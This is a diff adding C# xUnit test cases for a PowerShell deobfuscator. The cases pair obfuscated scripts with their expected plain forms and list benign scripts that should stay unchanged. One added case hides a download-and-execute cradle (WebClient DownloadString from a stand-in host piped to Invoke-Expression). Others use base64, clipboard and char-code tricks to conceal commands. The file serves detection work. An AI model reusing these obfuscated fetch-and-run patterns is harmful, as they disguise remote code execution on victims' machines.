@@ -25,6 +25,13 @@ public sealed class DisguiseTests
     [InlineData("$env:QZ7W='RwBlAHQALQBEAGEAdABlAA=='\niex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String((gci env:QZ7W).Value)))", "Get-Date")]
     [InlineData("function Ts($q) { return $q.Replace('!~','') }\nRemove-Item (Ts 'C:!~\\te!~mp\\a!~b.!~txt')", "Remove-Item C:\\temp\\ab.txt")]
     [InlineData("New-Object Net.WebProxy(\"{1}{0}\"-f'81','192.0.2.1:')", "New-Object Net.WebProxy('192.0.2.1:81')")]
+    [InlineData("Set-Item Variable:/c (.(gcm *w-*ject) ('Net.'+'WebCl'+'ient'))\nSI Variable:/u ('http'+'://a.exa'+'mple/y')\n&(gcm I*e-E*ion) ((Get-Item Variable:/c).Value.(((Get-Item Variable:/c).Value.PsObject.Methods | ? { $_.Name -clike 'D*g' }).Name).Invoke((gv u -ValueO)))",
+        "$c = New-Object Net.WebClient\n$u = 'http://a.example/y'\nInvoke-Expression ($c.DownloadString($u))")]
+    [InlineData("[Environment]::SetEnvironmentVariable('tRq','Get-Date','Process');. ([scriptblock]::Create(([Environment]::GetEnvironmentVariable('tRq','Process'))))", "Get-Date")]
+    [InlineData("Set-Clipboard -Value 'Get-Date'\nAdd-Type -AssemblyName System.Windows.Forms\nIEX ([System.Windows.Forms.Clipboard]::GetText())\n[System.Windows.Forms.Clipboard]::Clear()", "Get-Date")]
+    [InlineData("function Area($w, $h) { return $w * $h }\n$a = Area 3 4\nWrite-Output (([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('QQByAGUAYQA6ACAA'))) + $a)", "function Area($w, $h) { return $w * $h }\n$a = Area 3 4\nWrite-Output ('Area: ' + $a)")]
+    [InlineData("Invoke-RestMethod -Ur \"$('https://api.exa')$('mple.t')$('est/items')\" -Met \"$('Po')$('st')\" -Bo \"$('bo')$('dy')\"", "Invoke-RestMethod -Uri 'https://api.example.test/items' -Method 'Post' -Body 'body'")]
+    [InlineData("${lamp} = New-Object -ComObject WScript.Shell\n${lamp}.Run((-join((99-0),(97+0),(108*2/2),(99+0)|%{[char][int]$_})))", "$lamp = New-Object -ComObject WScript.Shell\n$lamp.Run('calc')")]
     public void A_disguise_comes_off(string script, string plain) => Assert.Equal(plain, Deobfuscator.Judge(script).Text.Trim());
 
     [Theory]
@@ -35,6 +42,10 @@ public sealed class DisguiseTests
     [InlineData("$rows = Import-Csv C:\\a.csv\n$rows | ForEach-Object { $_.Val }")]
     [InlineData("class P {\n [int]$X\n P([int]$x) { $this.X = $x }\n}\n$p = [P]::new(2)\n$p.X")]
     [InlineData("$w = { Get-Service }\n$e = [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($w.ToString()))\nStart-Process powershell.exe -Verb RunAs -ArgumentList \"-EncodedCommand $e\"")]
+    [InlineData("Set-Variable -Name limit -Value (Get-Content C:\\limit.txt)\nWrite-Output (Get-Variable limit -ValueOnly)")]
+    [InlineData("Get-Service | Sort-Object Name -Desc | Select-Object -Fir 5")]
+    [InlineData("$w.PSObject.Methods['DownloadString'].Invoke('http://a.example/')")]
+    [InlineData("${my name} = 1\n${count} = 2\nWrite-Output ${count}")]
     public void Honest_shapes_stay(string script) => Assert.Equal(script, Deobfuscator.Judge(script).Text);
 
     [Fact]
